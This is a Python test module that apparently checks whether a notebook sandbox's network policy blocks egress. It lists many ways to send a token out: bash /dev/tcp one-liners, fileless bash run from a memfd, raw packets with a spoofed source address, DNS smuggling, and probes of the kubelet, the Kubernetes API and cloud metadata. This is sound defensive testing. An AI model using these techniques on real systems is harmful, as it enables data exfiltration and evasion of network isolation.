"""Sockets of the notebook's own, to whom the policy does not name."""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Callable
from pathlib import Path

from ways import (
    GROUPS,
    LINK_LOCAL,
    NODE,
    OUTSIDE,
    POD,
    SECONDS,
    SERVER,
    SERVER_URL,
    SERVICE,
    WHERE,
    fetch,
    program,
    recorded,
    way,
)


def sockets(name: str, attempt: Callable[[bytes], object]) -> None:
    GROUPS["sockets"][name] = attempt


def tcp(host: str, port: int, data: bytes, family: int = socket.AF_INET, source: int = 0, protocol: int = 0) -> str:
    with socket.socket(family, socket.SOCK_STREAM, protocol) as own:
        own.settimeout(SECONDS)
        if source:
            own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            own.bind(("", source))
        own.connect((host, port))
        own.sendall(data)
        return f"sent, {len(own.recv(1000))} bytes came back"


def udp(
    host: str, port: int, data: bytes, family: int = socket.AF_INET, option: tuple[int, int, int] | None = None
) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as own:
        if option:
            own.setsockopt(*option)
        for _ in range(3):
            own.sendto(data, (host, port))
        return "sent"


sockets("tcp-to-a-pod", lambda token: tcp(POD, 80, token))
# The recorder's pod has the labels and the port of the model server, in the notebook's namespace.
sockets("tcp-to-a-pod-with-the-servers-labels", lambda token: tcp(POD, 8000, token))
sockets("tcp-to-a-service", lambda token: tcp(SERVICE, 80, token))
sockets("tcp-to-a-node-port", lambda token: tcp(NODE, WHERE["node_port"], token))
sockets("tcp-to-the-port-of-names", lambda token: tcp(POD, 53, token))
sockets("tcp-from-the-servers-port", lambda token: tcp(POD, 443, token, source=8000))
sockets("tcp-by-a-mapped-address", lambda token: tcp(f"::ffff:{POD}", 80, token, socket.AF_INET6))
sockets("tcp-of-several-paths", lambda token: tcp(POD, 443, token, protocol=262))  # IPPROTO_MPTCP
sockets("tcp-outside", lambda token: tcp(OUTSIDE, WHERE["outside_port"], token))
sockets("udp-to-a-pod", lambda token: udp(POD, 8000, token))
sockets("udp-to-a-service", lambda token: udp(SERVICE, 53, token))
sockets("udp-outside", lambda token: udp(OUTSIDE, WHERE["outside_port"], token))
BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
sockets("udp-broadcast", lambda token: udp("10.244.0.255", 8000, token, option=BROADCAST))
sockets("udp-multicast", lambda token: udp("224.0.0.251", 5353, token))
sockets("a-port-of-the-server-that-is-not-named", lambda token: tcp(SERVER, 9000, token))
sockets("udp-to-the-server", lambda token: udp(SERVER, 8000, token))
sockets("ipv6-link-local-udp", lambda token: udp(f"{LINK_LOCAL or 'fe80::1'}%eth0", 8000, token, socket.AF_INET6))
sockets("ipv6-link-local-tcp", lambda token: tcp(f"{LINK_LOCAL or 'fe80::1'}%eth0", 80, token, socket.AF_INET6))
sockets("ipv6-multicast", lambda token: udp("ff02::1%eth0", 8000, token, socket.AF_INET6))


def question(name: bytes) -> bytes:
    labels = b"".join(bytes([len(part)]) + part for part in (name, b"example"))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 16, 1)


sockets("a-name-asked-of-another-resolver", lambda token: udp(POD, 53, question(token)))


@way("sockets")
def tcp_with_data_in_its_first_packet(token: bytes) -> object:
    with socket.socket() as own:
        return own.sendto(token, 0x20000000, (POD, 80))  # MSG_FASTOPEN


@way("sockets")
def sctp(token: bytes) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as own:
        own.settimeout(SECONDS)
        own.connect((POD, 80))
        return own.send(token)


@way("sockets")
def icmp_echo(token: bytes) -> object:
    message = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + token
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as own:
        return own.sendto(message, (POD, 0))


@way("sockets")
def raw_protocol(token: bytes) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as own:
        return own.sendto(token, (POD, 0))


@way("sockets")
def raw_with_another_source(token: bytes) -> object:
    whole = struct.pack(">BBHHHBBH", 69, 0, 28 + len(token), 7, 0, 64, 17, 0)
    whole += socket.inet_aton(SERVER) + socket.inet_aton(POD)
    whole += struct.pack(">HHHH", 8000, 8000, 8 + len(token), 0) + token
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as own:
        return own.sendto(whole, (POD, 0))


@way("sockets")
def raw_frame(token: bytes) -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as own:
        own.bind(("eth0", 0x88B5))  # of experiments
        return own.send(b"\xff" * 6 + bytes(6) + b"\x88\xb5" + token)


@way("sockets")
def raw_in_a_user_namespace(token: bytes) -> object:
    code = f"import socket; socket.socket(2, 3, 253).sendto({token!r}, ({POD!r}, 0))"
    return program("unshare", "--map-root-user", "python3", "-c", code)


@way("sockets")
def an_abstract_socket(token: bytes) -> object:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as own:
        return own.sendto(token, "\0veil-recorder")


@way("sockets")
def another_program(token: bytes) -> object:
    return program("bash", "-c", f"exec 3<>/dev/tcp/{POD}/80; printf %s {token.decode()} >&3; timeout 3 cat <&3")


@way("sockets")
def a_program_without_a_file(token: bytes) -> object:
    handle = os.memfd_create("program", 0)
    os.write(handle, Path("/bin/bash").read_bytes())
    own = f"/proc/{os.getpid()}/fd/{handle}"
    return program(own, "-c", f"exec 3<>/dev/tcp/{SERVICE}/80; printf %s {token.decode()} >&3; timeout 3 cat <&3")


@way("sockets")
def another_language(token: bytes) -> object:
    from veilbook._node import find_node

    code = f"require('net').connect(443, '{POD}', function () {{ this.end('{token.decode()}') }})"
    return program(find_node(), "-e", f"{code}.setTimeout(3000, process.exit)")


sockets("a-proxy", lambda token: recorded(fetch(f"http://elsewhere.example/{token.decode()}", f"http://{POD}:443")))
sockets("a-tunnel-of-a-proxy", lambda token: fetch(f"https://{token.decode()}.example/", f"http://{POD}:443"))
sockets("a-redirect-of-the-server", lambda token: recorded(fetch(f"{SERVER_URL}/redirect/{token.decode()}")))
sockets("the-api-by-its-service", lambda token: fetch(f"https://10.96.0.1/{token.decode()}"))
sockets("the-api-by-its-node", lambda token: fetch(f"https://{NODE}:6443/{token.decode()}"))
sockets("the-kubelet", lambda token: fetch(f"https://{NODE}:10250/{token.decode()}"))
sockets("the-metadata-address", lambda token: fetch(f"http://169.254.169.254/{token.decode()}"))
